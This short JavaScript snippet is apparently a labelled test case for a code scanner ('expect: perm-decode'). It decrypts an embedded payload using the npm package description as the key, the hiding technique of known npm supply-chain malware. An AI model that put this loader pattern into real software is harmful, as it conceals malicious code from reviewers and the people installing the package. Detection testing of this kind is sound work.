// Decrypting an embedded payload with a key from the environment.
const crypto = require("crypto");
const d = crypto.createDecipher("aes256", process.env.npm_package_description); // expect: perm-decode
const text = d.update(blob, "hex", "utf8") + d.final("utf8");
